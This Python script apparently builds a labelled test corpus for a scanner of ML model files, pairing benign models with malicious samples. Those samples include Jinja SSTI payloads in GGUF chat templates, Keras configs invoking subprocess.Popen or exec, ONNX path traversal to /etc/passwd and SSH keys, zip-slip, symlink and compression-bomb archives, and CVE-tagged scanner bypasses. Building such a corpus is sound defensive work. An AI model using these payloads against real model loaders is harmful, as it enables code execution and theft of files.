"""Build the labelled scanner corpus offline: benign models of every format, malicious files of every
technique (including the public 2024-2026 scanner bypasses), and hostile containers.

    .venv/bin/python benchmarks/scanner/corpus.py [OUT]       # default benchmarks/.work/scanner/corpus

Writes ``OUT/benign/<format>/...``, ``OUT/malicious/<format>/...`` and ``OUT/labels.json`` (one record
per file: path, label, format, technique). Benign models are trained here on scikit-learn's bundled
data sets and randomly initialised torch modules; nothing is downloaded. ``.h5`` files need h5py, which
the benchmark venv has: when it exists the Keras HDF5 part is written by ``write_h5.py`` there.
"""

from __future__ import annotations

import bz2
import gzip
import importlib
import importlib.util
import io
import itertools
import json
import lzma
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path
from typing import Any, TypedDict

import joblib
import numpy as np

sys.path.insert(0, str(Path(__file__).parent))
from payloads import CORE, PAYLOADS, u
from unseen import build_unseen

ROOT = Path(__file__).resolve().parents[2]


class Sample(TypedDict):
    """One labelled corpus file, as ``labels.json`` records it."""

    path: str
    """Relative to the corpus root: ``<label>/<format>/<name>``."""
    label: str
    """``benign`` or ``malicious``."""
    format: str
    technique: str


LABELS: list[Sample] = []
# Sample modules written beside this one, each ``write_samples(root: Path) -> list[Sample]``: the function
# writes its files under ``root/<label>/<format>/`` and returns one record per file. A module missing from
# the checkout is skipped (each is owned by the issue that adds it).
EXTRA_SAMPLES = ("corpus_pickle17", "corpus_formats17")


def put(out: Path, rel: str, data: bytes, label: str, fmt: str, technique: str) -> None:
    path = out / label / fmt / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    LABELS.append({"path": str(path.relative_to(out)), "label": label, "format": fmt, "technique": technique})


# -- benign models ------------------------------------------------------------------------------------


def sklearn_models() -> list[tuple[str, Any]]:
    from sklearn import (
        cluster,
        decomposition,
        ensemble,
        linear_model,
        naive_bayes,
        neighbors,
        neural_network,
        pipeline,
        preprocessing,
        svm,
        tree,
    )
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_breast_cancer, load_diabetes, load_digits, load_iris, load_wine
    from sklearn.feature_extraction.text import TfidfVectorizer

    xi, yi = load_iris(return_X_y=True)
    xw, yw = load_wine(return_X_y=True)
    xb, yb = load_breast_cancer(return_X_y=True)
    xd, yd = load_digits(return_X_y=True)
    xr, yr = load_diabetes(return_X_y=True)
    texts = ["good model", "bad model", "fine weights", "poisoned data", "clean run", "odd file"] * 5
    labels = [0, 1, 0, 1, 0, 1] * 5
    m: list[tuple[str, Any]] = [
        ("logreg_iris", linear_model.LogisticRegression(max_iter=500).fit(xi, yi)),
        ("rf_wine", ensemble.RandomForestClassifier(n_estimators=20, random_state=0).fit(xw, yw)),
        ("gb_cancer", ensemble.GradientBoostingClassifier(n_estimators=20).fit(xb, yb)),
        ("et_digits", ensemble.ExtraTreesClassifier(n_estimators=10, random_state=0).fit(xd, yd)),
        ("tree_iris", tree.DecisionTreeClassifier(random_state=0).fit(xi, yi)),
        ("svc_cancer", svm.SVC(probability=True, random_state=0).fit(xb, yb)),
        ("linsvc_wine", svm.LinearSVC(max_iter=5000).fit(xw, yw)),
        ("knn_digits", neighbors.KNeighborsClassifier().fit(xd, yd)),
        ("gnb_iris", naive_bayes.GaussianNB().fit(xi, yi)),
        (
            "mlp_digits",
            neural_network.MLPClassifier(hidden_layer_sizes=(32,), max_iter=50, random_state=0).fit(xd, yd),
        ),
        ("ridge_diabetes", linear_model.Ridge().fit(xr, yr)),
        ("lasso_diabetes", linear_model.Lasso().fit(xr, yr)),
        ("kmeans_wine", cluster.KMeans(n_clusters=3, n_init=3, random_state=0).fit(xw)),
        ("pca_digits", decomposition.PCA(n_components=10).fit(xd)),
        (
            "pipe_scaler_lr",
            pipeline.make_pipeline(
                preprocessing.StandardScaler(), linear_model.LogisticRegression(max_iter=500)
            ).fit(xb, yb),
        ),
        ("iforest_cancer", ensemble.IsolationForest(n_estimators=20, random_state=0).fit(xb)),
        ("hgb_wine", ensemble.HistGradientBoostingClassifier(max_iter=20).fit(xw, yw)),
        ("ada_iris", ensemble.AdaBoostClassifier(n_estimators=10).fit(xi, yi)),
        ("bagging_iris", ensemble.BaggingClassifier(n_estimators=5, random_state=0).fit(xi, yi)),
        (
            "tfidf_lr",
            pipeline.make_pipeline(TfidfVectorizer(), linear_model.LogisticRegression()).fit(texts, labels),
        ),
        (
            "coltrans",
            pipeline.make_pipeline(
                ColumnTransformer(
                    [("s", preprocessing.StandardScaler(), [0, 1]), ("p", "passthrough", [2, 3])]
                ),
                linear_model.LogisticRegression(max_iter=500),
            ).fit(xi, yi),
        ),
        ("sgd_cancer", linear_model.SGDClassifier(random_state=0).fit(xb, yb)),
        ("onehot", preprocessing.OneHotEncoder().fit(np.array([["a"], ["b"], ["c"]]))),
    ]
    return m


def torch_models() -> list[tuple[str, Any]]:
    import torch
    from torch import nn

    torch.manual_seed(0)
    return [
        ("mlp_small", nn.Sequential(nn.Linear(16, 32), nn.ReLU(), nn.Linear(32, 4))),
        (
            "mlp_deep",
            nn.Sequential(*[m for _ in range(4) for m in (nn.Linear(64, 64), nn.GELU())], nn.Linear(64, 10)),
        ),
        (
            "cnn_mnist",
            nn.Sequential(
                nn.Conv2d(1, 8, 3), nn.ReLU(), nn.MaxPool2d(2), nn.Flatten(), nn.Linear(8 * 13 * 13, 10)
            ),
        ),
        (
            "cnn_bn",
            nn.Sequential(
                nn.Conv2d(3, 16, 3),
                nn.BatchNorm2d(16),
                nn.ReLU(),
                nn.AdaptiveAvgPool2d(1),
                nn.Flatten(),
                nn.Linear(16, 5),
            ),
        ),
        ("lstm", nn.LSTM(8, 16, num_layers=2, batch_first=True)),
        ("gru", nn.GRU(8, 12, batch_first=True)),
        ("rnn", nn.RNN(4, 8)),
        ("embedding_bag", nn.EmbeddingBag(100, 16)),
        ("embedding_lin", nn.Sequential(nn.Embedding(50, 8), nn.Flatten(), nn.Linear(8 * 4, 2))),
        ("transformer_layer", nn.TransformerEncoderLayer(d_model=32, nhead=4, dim_feedforward=64)),
        ("layernorm_mlp", nn.Sequential(nn.LayerNorm(20), nn.Linear(20, 20), nn.Tanh(), nn.Linear(20, 1))),
        ("conv1d", nn.Sequential(nn.Conv1d(4, 8, 5), nn.ReLU(), nn.Conv1d(8, 8, 3))),
        ("autoencoder", nn.Sequential(nn.Linear(32, 8), nn.ReLU(), nn.Linear(8, 32), nn.Sigmoid())),
        ("dropout_mlp", nn.Sequential(nn.Linear(10, 50), nn.Dropout(0.2), nn.ReLU(), nn.Linear(50, 3))),
        ("bilinear", nn.Bilinear(6, 6, 3)),
        ("groupnorm", nn.Sequential(nn.Conv2d(3, 8, 1), nn.GroupNorm(2, 8))),
        ("convtranspose", nn.ConvTranspose2d(4, 2, 3)),
        ("prelu_mlp", nn.Sequential(nn.Linear(12, 12), nn.PReLU(), nn.Linear(12, 2))),
        ("multihead", nn.MultiheadAttention(16, 2)),
        ("softmax_head", nn.Sequential(nn.Linear(30, 5), nn.Softmax(dim=-1))),
        ("wide", nn.Linear(512, 512)),
        ("residual_like", nn.Sequential(nn.Conv2d(3, 3, 3, padding=1), nn.BatchNorm2d(3), nn.ReLU6())),
    ]


def safetensors_bytes(tensors: dict[str, np.ndarray]) -> bytes:
    names = {
        np.dtype("float32"): "F32",
        np.dtype("float64"): "F64",
        np.dtype("int64"): "I64",
        np.dtype("float16"): "F16",
        np.dtype("int32"): "I32",
        np.dtype("uint8"): "U8",
    }
    header: dict[str, Any] = {"__metadata__": {"format": "pt"}}
    blobs, off = [], 0
    for k, a in tensors.items():
        raw = np.ascontiguousarray(a).tobytes()
        header[k] = {"dtype": names[a.dtype], "shape": list(a.shape), "data_offsets": [off, off + len(raw)]}
        blobs.append(raw)
        off += len(raw)
    h = json.dumps(header, separators=(",", ":")).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + b"".join(blobs)


def _pb_varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(num: int, value: int | bytes | str) -> bytes:
    if isinstance(value, int):
        return _pb_varint(num << 3) + _pb_varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _pb_varint(num << 3 | 2) + _pb_varint(len(raw)) + raw


def onnx_mlp(
    sizes: list[int], seed: int, *, extra_nodes: list[bytes] = (), external: str | None = None
) -> bytes:
    """A realistic ONNX MLP: Gemm/Relu chain with float initializers and typed inputs/outputs."""
    rng = np.random.default_rng(seed)
    nodes, inits = [], []
    prev = "input"
    for i, (a, b) in enumerate(itertools.pairwise(sizes)):
        w = rng.normal(size=(b, a)).astype(np.float32)
        bias = np.zeros(b, np.float32)
        for name, arr in ((f"fc{i}.weight", w), (f"fc{i}.bias", bias)):
            dims = b"".join(pb(1, d) for d in arr.shape)
            if external and i == 0 and name.endswith("weight"):
                ext = pb(13, pb(1, "location") + pb(2, external)) + pb(13, pb(1, "offset") + pb(2, "0"))
                inits.append(pb(5, dims + pb(2, 1) + pb(8, name) + ext + pb(14, 1)))
            else:
                inits.append(pb(5, dims + pb(2, 1) + pb(8, name) + pb(9, arr.tobytes())))
        out = f"h{i}"
        attr = pb(5, pb(1, "transB") + pb(3, 1) + pb(20, 2))
        nodes.append(
            pb(
                1,
                pb(1, prev)
                + pb(1, f"fc{i}.weight")
                + pb(1, f"fc{i}.bias")
                + pb(2, out)
                + pb(3, f"/fc{i}/Gemm")
                + pb(4, "Gemm")
                + attr,
            )
        )
        prev = out
        if i < len(sizes) - 2:
            nodes.append(pb(1, pb(1, prev) + pb(2, out + "_r") + pb(3, f"/relu{i}") + pb(4, "Relu")))
            prev = out + "_r"
    nodes.extend(extra_nodes)

    def vi(name: str, n: int) -> bytes:
        shape = pb(1, pb(3, "batch")) + pb(1, pb(1, n))
        return pb(1, name) + pb(2, pb(1, pb(1, 1) + pb(2, shape)))

    graph = b"".join(nodes) + pb(2, "main_graph") + b"".join(inits) + pb(11, vi("input", sizes[0]))
    graph += pb(12, vi(prev, sizes[-1]))
    return pb(1, 8) + pb(2, "pytorch") + pb(3, "2.13.0") + pb(7, graph) + pb(8, pb(1, "") + pb(2, 17))


def gguf_bytes(seed: int, template: str, n_tensors: int = 3) -> bytes:
    rng = np.random.default_rng(seed)

    def s(text: str) -> bytes:
        return struct.pack("<Q", len(text.encode())) + text.encode()

    kv = [
        ("general.architecture", 8, s("llama")),
        ("general.name", 8, s(f"tiny-{seed}")),
        ("llama.context_length", 4, struct.pack("<I", 2048)),
        ("general.alignment", 4, struct.pack("<I", 32)),
        ("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 3) + s("<s>") + s("</s>") + s("hi")),
        ("tokenizer.ggml.scores", 9, struct.pack("<IQ", 6, 3) + struct.pack("<3f", 0, 0, -1)),
        ("tokenizer.chat_template", 8, s(template)),
    ]
    out = b"GGUF" + struct.pack("<IQQ", 3, n_tensors, len(kv))
    for k, t, raw in kv:
        out += s(k) + struct.pack("<I", t) + raw
    datas = []
    off = 0
    for i in range(n_tensors):
        arr = rng.normal(size=(8, 16)).astype(np.float32)
        out += (
            s(f"blk.{i}.weight")
            + struct.pack("<I", 2)
            + struct.pack("<QQ", 16, 8)
            + struct.pack("<IQ", 0, off)
        )
        raw = arr.tobytes()
        raw += b"\x00" * (-len(raw) % 32)
        datas.append(raw)
        off += len(raw)
    out += b"\x00" * (-len(out) % 32)
    return out + b"".join(datas)


KERAS_LAYERS = [
    "Dense",
    "Conv2D",
    "Dropout",
    "Flatten",
    "BatchNormalization",
    "MaxPooling2D",
    "LayerNormalization",
]


def keras_config(seed: int, extra: list[dict[str, Any]] = ()) -> dict[str, Any]:
    rng = np.random.default_rng(seed)
    layers = [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 28, 28, 1], "dtype": "float32", "name": "input"},
            "registered_name": None,
        }
    ]
    for i in range(int(rng.integers(2, 7))):
        cls = KERAS_LAYERS[int(rng.integers(0, len(KERAS_LAYERS)))]
        cfg: dict[str, Any] = {"name": f"{cls.lower()}_{i}", "trainable": True, "dtype": "float32"}
        if cls == "Dense":
            cfg.update(
                units=int(rng.integers(4, 128)),
                activation="relu",
                use_bias=True,
                kernel_initializer={
                    "module": "keras.initializers",
                    "class_name": "GlorotUniform",
                    "config": {"seed": None},
                    "registered_name": None,
                },
            )
        layers.append({"module": "keras.layers", "class_name": cls, "config": cfg, "registered_name": None})
    layers.extend(extra)
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": f"seq_{seed}", "layers": layers},
        "registered_name": None,
        "build_config": {"input_shape": [None, 28, 28, 1]},
        "compile_config": {
            "optimizer": {
                "module": "keras.optimizers",
                "class_name": "Adam",
                "config": {"learning_rate": 0.001},
                "registered_name": None,
            },
            "loss": "sparse_categorical_crossentropy",
        },
    }


def keras_zip(config: dict[str, Any], weights: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-11-01@10:00:00"})
        )
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", weights)
    return buf.getvalue()


def torch_zip(data_pkl: bytes, *, name: str = "archive/data.pkl") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(name, data_pkl)
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", np.zeros(64, np.float32).tobytes())
        z.writestr("archive/version", "3\n")
        z.writestr("archive/.data/serialization_id", "1234567890")
    return buf.getvalue()


def build_benign(out: Path, h5_specs: list[dict[str, Any]]) -> None:
    import torch

    for i, (name, model) in enumerate(sklearn_models()):
        put(out, f"{name}.pkl", pickle.dumps(model, protocol=[2, 4, 5][i % 3]), "benign", "pickle", "sklearn")
        b = io.BytesIO()
        joblib.dump(model, b)
        put(out, f"{name}.joblib", b.getvalue(), "benign", "joblib", "sklearn")
        codec = ["zlib", "gzip", "bz2", "xz", "lzma"][i % 5]
        path = out / "benign" / "joblib-compressed" / f"{name}.joblib.{codec}"
        path.parent.mkdir(parents=True, exist_ok=True)
        joblib.dump(model, path, compress=(codec, 3))
        LABELS.append(
            {
                "path": str(path.relative_to(out)),
                "label": "benign",
                "format": "joblib-compressed",
                "technique": f"sklearn {codec}",
            }
        )
    for i, (name, model) in enumerate(torch_models()):
        sd = model.state_dict()
        b = io.BytesIO()
        torch.save(sd, b)
        put(out, f"{name}.pt", b.getvalue(), "benign", "pytorch-zip", "state_dict")
        b = io.BytesIO()
        torch.save({"model": sd, "epoch": i, "config": {"name": name, "lr": 0.01}}, b)
        put(out, f"{name}_ckpt.bin", b.getvalue(), "benign", "pytorch-zip", "checkpoint dict")
        b = io.BytesIO()
        torch.save(sd, b, _use_new_zipfile_serialization=False)
        put(out, f"{name}_legacy.pt", b.getvalue(), "benign", "pytorch-legacy", "state_dict")
        try:
            scripted = torch.jit.script(model)
            b = io.BytesIO()
            torch.jit.save(scripted, b)
            put(out, f"{name}.torchscript.pt", b.getvalue(), "benign", "torchscript", "jit.script")
        except Exception:  # some modules do not script; the rest are enough
            pass
        arrays = {k: v.detach().numpy() for k, v in sd.items() if v.dtype in (torch.float32, torch.int64)}
        first = next(iter(arrays.values()))
        b = io.BytesIO()
        np.save(b, first)
        put(out, f"{name}.npy", b.getvalue(), "benign", "npy", "weights")
        b = io.BytesIO()
        (np.savez_compressed if i % 2 else np.savez)(b, **{k.replace(".", "_"): v for k, v in arrays.items()})
        put(out, f"{name}.npz", b.getvalue(), "benign", "npz", "weights")
        put(out, f"{name}.safetensors", safetensors_bytes(arrays), "benign", "safetensors", "weights")
    for i in range(22):
        sizes = [int(x) for x in np.random.default_rng(i).integers(4, 64, size=2 + i % 4)]
        put(
            out,
            f"mlp{i}.onnx",
            onnx_mlp(sizes, i, external="weights.bin" if i % 5 == 0 else None),
            "benign",
            "onnx",
            "mlp",
        )
        tpl = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}<|assistant|>"
        put(out, f"tiny{i}.gguf", gguf_bytes(i, tpl), "benign", "gguf", "llama-like")
        cfg = keras_config(i)
        put(
            out,
            f"model{i}.keras",
            keras_zip(cfg, b"\x89HDF\r\n\x1a\n" + bytes(512)),
            "benign",
            "keras",
            "sequential",
        )
        h5_specs.append({"path": str(out / "benign" / "keras-h5" / f"model{i}.h5"), "config": cfg})
        LABELS.append(
            {
                "path": f"benign/keras-h5/model{i}.h5",
                "label": "benign",
                "format": "keras-h5",
                "technique": "sequential",
            }
        )
    # containers of benign models
    models = list((out / "benign" / "joblib").glob("*.joblib"))[:22]
    for i, m in enumerate(models):
        b = io.BytesIO()
        with tarfile.open(fileobj=b, mode="w:gz") as t:
            t.add(m, arcname=f"model/{m.name}")
            cfg = json.dumps({"name": m.stem}).encode()
            info = tarfile.TarInfo("model/config.json")
            info.size = len(cfg)
            t.addfile(info, io.BytesIO(cfg))
        put(out, f"bundle{i}.tar.gz", b.getvalue(), "benign", "tar", "joblib bundle")
        zb = io.BytesIO()
        with zipfile.ZipFile(zb, "w", zipfile.ZIP_DEFLATED) as z:
            z.write(m, arcname=m.name)
            z.writestr("README.md", "# model\n")
        put(out, f"bundle{i}.zip", zb.getvalue(), "benign", "zip", "joblib bundle")


def build_malicious(out: Path, h5_specs: list[dict[str, Any]]) -> None:
    import torch

    for name, (data, src) in PAYLOADS.items():
        put(out, f"{name}.pkl", data, "malicious", "pickle", f"{name}: {src}")
    sd = torch.nn.Linear(4, 2).state_dict()
    legacy = io.BytesIO()
    torch.save(sd, legacy, _use_new_zipfile_serialization=False)
    for name in CORE:
        data = PAYLOADS[name][0]
        put(out, f"{name}.bin", data, "malicious", "renamed-pickle", f"{name} renamed .bin (CVE-2025-10155)")
        put(out, f"{name}.pt", torch_zip(data), "malicious", "pytorch-zip", name)
        put(
            out,
            f"{name}_odd_entry.pt",
            torch_zip(data, name="archive/weights.npy"),
            "malicious",
            "pytorch-zip",
            f"{name} non-standard entry name (CVE-2025-1889)",
        )
        head = (
            pickle.dumps(0x1950A86A20F9469CFC6C, 2)
            + pickle.dumps(1001, 2)
            + pickle.dumps({"little_endian": True}, 2)
        )
        put(out, f"{name}_legacy.pt", head + data + pickle.dumps([], 2), "malicious", "pytorch-legacy", name)
        for codec, comp in (
            ("zlib", zlib.compress),
            ("gzip", gzip.compress),
            ("bz2", bz2.compress),
            ("xz", lzma.compress),
            ("lzma", lambda d: lzma.compress(d, format=lzma.FORMAT_ALONE)),
        ):
            put(
                out, f"{name}.joblib.{codec}", comp(data), "malicious", "joblib-compressed", f"{name} {codec}"
            )
        header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + "\n"
        npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data
        put(out, f"{name}.npy", npy, "malicious", "npy", f"{name} object array")
        zb = io.BytesIO()
        with zipfile.ZipFile(zb, "w") as z:
            z.writestr("weights.npy", npy)
        put(out, f"{name}.npz", zb.getvalue(), "malicious", "npz", name)
        ts = io.BytesIO()
        with zipfile.ZipFile(ts, "w") as z:
            z.writestr("m/data.pkl", pickle.dumps({}, 2))
            z.writestr("m/constants.pkl", data)
            z.writestr("m/code/__torch__/m.py", "def forward(self, x):\n  return x\n")
        put(
            out,
            f"{name}.torchscript.pt",
            ts.getvalue(),
            "malicious",
            "torchscript",
            f"{name} in constants.pkl",
        )
        tb = io.BytesIO()
        with tarfile.open(fileobj=tb, mode="w:gz") as t:
            info = tarfile.TarInfo("model/pytorch_model.bin")
            blob = torch_zip(data)
            info.size = len(blob)
            t.addfile(info, io.BytesIO(blob))
        put(out, f"{name}.tar.gz", tb.getvalue(), "malicious", "tar", f"{name} nested zip in tar.gz")
        inner = torch_zip(data)
        for _ in range(3):
            z2 = io.BytesIO()
            with zipfile.ZipFile(z2, "w", zipfile.ZIP_DEFLATED) as z:
                z.writestr("inner.zip", inner)
            inner = z2.getvalue()
        put(out, f"{name}_nested3.zip", inner, "malicious", "zip", f"{name} zip in zip in zip")
        put(
            out,
            f"{name}_junk_prefix.bin",
            b"GARBAGE-HEADER\x00\x01" * 64 + data,
            "malicious",
            "pickle",
            f"{name} after junk",
        )
        put(
            out,
            f"{name}_second.pkl",
            pickle.dumps({"w": [1, 2]}, 2) + data,
            "malicious",
            "pickle",
            f"{name} second pickle",
        )
        put(
            out,
            f"{name}_polyglot.pt",
            data + torch_zip(pickle.dumps({}, 2)),
            "malicious",
            "pytorch-zip",
            f"{name} pickle+zip polyglot",
        )
        put(
            out,
            f"{name}_in_legacy_torch.pt",
            legacy.getvalue() + data,
            "malicious",
            "pytorch-legacy",
            f"{name} appended to a legacy checkpoint",
        )
        wrapped = b"\x80\x02}(" + u("model") + b"K\x01" + u("hook") + data[2:-1] + b"u."
        put(out, f"{name}_in_dict.pkl", wrapped, "malicious", "pickle", f"{name} inside a dict")
    base = bytearray(torch_zip(PAYLOADS["os-system-global"][0]))
    cd = base.find(b"PK\x01\x02")
    flags = bytearray(base)
    struct.pack_into("<H", flags, 6, 1)
    struct.pack_into("<H", flags, cd + 8, 1)
    put(out, "flag_bits.pt", bytes(flags), "malicious", "pytorch-zip", "zip flag bits (CVE-2025-1945)")
    crc = bytearray(base)
    struct.pack_into("<I", crc, 14, 0)
    struct.pack_into("<I", crc, cd + 16, 0)
    put(out, "bad_crc.pt", bytes(crc), "malicious", "pytorch-zip", "bad CRC (CVE-2025-10156)")
    ren = bytearray(base)
    ren[30:46] = b"archive/data.pk_"
    put(
        out,
        "name_mismatch.pt",
        bytes(ren),
        "malicious",
        "pytorch-zip",
        "local/central names differ (CVE-2025-1944)",
    )
    dup = io.BytesIO()
    with zipfile.ZipFile(dup, "w") as z:
        z.writestr("archive/data.pkl", PAYLOADS["os-system-global"][0])
        z.writestr("archive/data.pkl", pickle.dumps({}, 2))
    put(out, "duplicate_names.pt", dup.getvalue(), "malicious", "pytorch-zip", "duplicate entry names")
    # Keras
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "function": {
                "class_name": "__lambda__",
                "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAA", "defaults": None},
            },
        },
    }
    imp = {"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}, "registered_name": None}
    evl = {"module": "builtins", "class_name": "eval", "config": {"source": "1"}, "registered_name": None}
    for n, layer in (("lambda", lam), ("module_import", imp), ("builtins_eval", evl)):
        put(
            out,
            f"{n}.keras",
            keras_zip(keras_config(100, [layer]), b"\x89HDF\r\n\x1a\n" + bytes(64)),
            "malicious",
            "keras",
            f"keras {n} (CVE-2024-3660 / CVE-2025-1550)",
        )
    legacy_lam = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": ["4wEAAAAAAAA=", None, None], "function_type": "lambda"},
    }
    h5_specs.append(
        {
            "path": str(out / "malicious" / "keras-h5" / "lambda.h5"),
            "config": {"class_name": "Sequential", "config": {"layers": [legacy_lam]}},
        }
    )
    LABELS.append(
        {
            "path": "malicious/keras-h5/lambda.h5",
            "label": "malicious",
            "format": "keras-h5",
            "technique": "Lambda in model_config (CVE-2024-3660)",
        }
    )
    # ONNX
    put(
        out,
        "traversal.onnx",
        onnx_mlp([8, 4], 1, external="../../../../etc/passwd"),
        "malicious",
        "onnx",
        "external data path traversal (CVE-2024-27318)",
    )
    put(
        out,
        "absolute.onnx",
        onnx_mlp([8, 4], 2, external="/root/.ssh/id_rsa"),
        "malicious",
        "onnx",
        "external data absolute path (CVE-2024-5187)",
    )
    pyop = pb(1, pb(1, "h0") + pb(2, "z") + pb(4, "PyOp") + pb(7, "ai.onnx.contrib"))
    put(out, "pyop.onnx", onnx_mlp([8, 4], 3, extra_nodes=[pyop]), "malicious", "onnx", "PyOp custom op")
    # GGUF
    ssti = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    put(out, "ssti.gguf", gguf_bytes(7, ssti), "malicious", "gguf", "chat template SSTI (CVE-2024-34359)")
    # More Keras, ONNX, GGUF and safetensors variants
    wrapped_lam = {
        "module": "keras.layers",
        "class_name": "TimeDistributed",
        "registered_name": None,
        "config": {"name": "td", "layer": lam},
    }
    fn_exec = {
        "module": "keras.layers",
        "class_name": "Activation",
        "registered_name": None,
        "config": {
            "name": "act",
            "activation": {
                "module": "builtins",
                "class_name": "function",
                "config": "exec",
                "registered_name": "exec",
            },
        },
    }
    put(
        out,
        "wrapped_lambda.keras",
        keras_zip(keras_config(101, [wrapped_lam]), b"\x89HDF\r\n\x1a\n" + bytes(64)),
        "malicious",
        "keras",
        "Lambda inside a TimeDistributed wrapper",
    )
    put(
        out,
        "function_exec.keras",
        keras_zip(keras_config(102, [fn_exec]), b"\x89HDF\r\n\x1a\n" + bytes(64)),
        "malicious",
        "keras",
        "activation function resolved to builtins.exec",
    )
    kz = io.BytesIO()
    with zipfile.ZipFile(kz, "w") as z:
        z.writestr("config.json", json.dumps(keras_config(103)))
        z.writestr("metadata.json", "{}")
        z.writestr("assets/tokenizer.pkl", PAYLOADS["os-system-global"][0])
    put(out, "pickle_asset.keras", kz.getvalue(), "malicious", "keras", "pickle payload among the assets")
    for n, layer in (("module_import", imp), ("wrapped_lambda", wrapped_lam)):
        h5_specs.append(
            {
                "path": str(out / "malicious" / "keras-h5" / f"{n}.h5"),
                "config": {"class_name": "Sequential", "config": {"layers": [layer]}},
            }
        )
        LABELS.append(
            {"path": f"malicious/keras-h5/{n}.h5", "label": "malicious", "format": "keras-h5", "technique": n}
        )
    for n, loc in (
        ("windows_traversal", "..\\..\\..\\Windows\\win.ini"),
        ("drive_absolute", "C:\\secrets.txt"),
    ):
        put(out, f"{n}.onnx", onnx_mlp([6, 3], 4, external=loc), "malicious", "onnx", f"external data {n}")
    sub_tensor = pb(1, 4) + pb(2, 1) + pb(8, "w") + pb(13, pb(1, "location") + pb(2, "../../x")) + pb(14, 1)
    subgraph = pb(5, sub_tensor) + pb(2, "then")
    if_node = pb(
        1,
        pb(1, "cond") + pb(2, "y") + pb(4, "If") + pb(5, pb(1, "then_branch") + pb(6, subgraph) + pb(20, 5)),
    )
    put(
        out,
        "subgraph_traversal.onnx",
        onnx_mlp([6, 3], 5, extra_nodes=[if_node]),
        "malicious",
        "onnx",
        "external data traversal inside an If subgraph",
    )
    for i, tpl in enumerate(
        [
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c('id') }}{% endif %}{% endfor %}",
            "{{ lipsum.__globals__['os'].system('id') }}",
        ]
    ):
        put(out, f"ssti{i}.gguf", gguf_bytes(20 + i, tpl), "malicious", "gguf", "chat template SSTI variant")
    put(
        out,
        "huge_counts.gguf",
        b"GGUF" + struct.pack("<IQQ", 3, 1 << 60, 1 << 60) + bytes(64),
        "malicious",
        "gguf",
        "counts far beyond the file (GGML parser overflows)",
    )
    hdr = json.dumps(
        {
            "w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [8, 16]},
        }
    ).encode()
    put(
        out,
        "overlap.safetensors",
        struct.pack("<Q", len(hdr)) + hdr + bytes(16),
        "malicious",
        "safetensors",
        "overlapping tensors",
    )
    put(
        out,
        "header_too_big.safetensors",
        struct.pack("<Q", 50 << 20) + b'{"w": 1}' + bytes(32),
        "malicious",
        "safetensors",
        "header length beyond the file",
    )
    # Hostile containers
    sevenz = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(200)
    put(out, "pytorch_model.bin", sevenz, "malicious", "7z", "7z archive renamed .bin")
    slip = io.BytesIO()
    with zipfile.ZipFile(slip, "w") as z:
        z.writestr("../../../../tmp/evil.pkl", PAYLOADS["os-system-global"][0])
    put(out, "zip_slip.zip", slip.getvalue(), "malicious", "zip", "zip-slip")
    sym = io.BytesIO()
    with tarfile.open(fileobj=sym, mode="w") as t:
        info = tarfile.TarInfo("model/weights.bin")
        info.type = tarfile.SYMTYPE
        info.linkname = "/etc/passwd"
        t.addfile(info)
    put(out, "symlink.tar", sym.getvalue(), "malicious", "tar", "symlink to /etc/passwd")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("weights.bin", b"\x00" * (300 << 20))
    put(out, "bomb.zip", bomb.getvalue(), "malicious", "zip", "compression bomb")


def main() -> None:
    global LABELS
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "benchmarks" / ".work" / "scanner" / "corpus"
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    h5_specs: list[dict[str, Any]] = []
    build_benign(out, h5_specs)
    build_malicious(out, h5_specs)
    h5_specs.extend(build_unseen(lambda *a: put(out, *a), out))
    for name in EXTRA_SAMPLES:
        if importlib.util.find_spec(name) is not None:
            LABELS.extend(importlib.import_module(name).write_samples(out))
    venv_py = ROOT / "benchmarks" / ".venv-scanner" / "bin" / "python"
    spec = out / "h5_specs.json"
    spec.write_text(json.dumps(h5_specs))
    if venv_py.exists():
        subprocess.run([str(venv_py), str(Path(__file__).with_name("write_h5.py")), str(spec)], check=True)
    else:
        print("benchmark venv missing: .h5 files skipped (run setup_venv.sh first)", file=sys.stderr)
        LABELS = [r for r in LABELS if r["format"] != "keras-h5"]
    (out / "labels.json").write_text(json.dumps(LABELS, indent=1))
    counts: dict[str, int] = {}
    for r in LABELS:
        counts[f"{r['label']}/{r['format']}"] = counts.get(f"{r['label']}/{r['format']}", 0) + 1
    for k in sorted(counts):
